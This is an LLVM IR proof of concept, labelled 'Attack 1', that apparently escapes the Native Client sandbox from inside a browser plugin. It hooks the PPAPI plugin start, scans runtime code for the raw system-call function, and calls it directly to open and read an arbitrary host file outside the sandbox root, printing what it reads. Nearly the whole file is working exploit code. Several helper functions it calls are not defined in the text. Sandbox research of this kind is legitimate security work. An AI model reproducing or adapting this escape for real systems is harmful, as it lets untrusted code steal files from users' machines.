; Attack 1 from inside a browser plugin: the pexe starts as a plugin (the PPAPI hook, its
; instance, the host's reader thread), and from its PPP_InitializeModule calls the
; runtime's raw system-call function to open a host file outside any root, read it and
; print what it got; then ends the program.
; argv: [1] the raw function's first bytes in hex, [2] the host file, [3] openat's number,
; [4] read's.
@hook_name = internal constant [23 x i8] c"nacl-irt-ppapihook-0.1\00"
@hook = internal global [8 x i8] zeroinitializer, align 4
@starts = internal global [12 x i8] zeroinitializer, align 4
@plugin_msg = internal constant [35 x i8] c"attack: inside the plugin's start\0A\00"

define internal i32 @initialize(i32 %module, i32 %get) {
entry:
  %m = ptrtoint [35 x i8]* @plugin_msg to i32
  call void @print(i32 %m)
  %pat = call i32 @arg(i32 1)
  %q = call i32 @query_addr()
  %a = call i32 @find_code(i32 %q, i32 %pat)
  %sc = inttoptr i32 %a to i32 (i32, i32, i32, i32, i32, i32, i32)*
  %s3 = call i32 @arg(i32 3)
  %nr.open = call i32 @parse(i32 %s3)
  %s4 = call i32 @arg(i32 4)
  %nr.read = call i32 @parse(i32 %s4)
  %secret = call i32 @arg(i32 2)
  %fd = call i32 %sc(i32 %nr.open, i32 -100, i32 %secret, i32 0, i32 0, i32 0, i32 0)
  %buf = alloca i8, i32 256, align 4
  %b = ptrtoint i8* %buf to i32
  %n = call i32 %sc(i32 %nr.read, i32 %fd, i32 %b, i32 200, i32 0, i32 0, i32 0)
  %got = icmp sgt i32 %n, 0
  %count = select i1 %got, i32 %n, i32 0
  call void @write(i32 2, i32 %b, i32 %count)
  call void @exit(i32 0)
  unreachable
}

define internal void @shutdown() {
  ret void
}

define internal i32 @get_interface(i32 %name) {
  ret i32 0
}

define void @_start(i32 %info) {
  call void @init(i32 %info)
  %q = call i32 @query_addr()
  %query = inttoptr i32 %q to i32 (i32, i32, i32)*
  %hn = ptrtoint [23 x i8]* @hook_name to i32
  %h = ptrtoint [8 x i8]* @hook to i32
  %got = call i32 %query(i32 %hn, i32 %h, i32 8)
  %s = ptrtoint [12 x i8]* @starts to i32
  %i = ptrtoint i32 (i32, i32)* @initialize to i32
  call void @store32(i32 %s, i32 %i)
  %s4 = add i32 %s, 4
  %d = ptrtoint void ()* @shutdown to i32
  call void @store32(i32 %s4, i32 %d)
  %s8 = add i32 %s, 8
  %g = ptrtoint i32 (i32)* @get_interface to i32
  call void @store32(i32 %s8, i32 %g)
  %start.p = call i32 @load32(i32 %h)
  %start = inttoptr i32 %start.p to i32 (i32)*
  %r = call i32 %start(i32 %s)
  call void @exit(i32 %r)
  unreachable
}
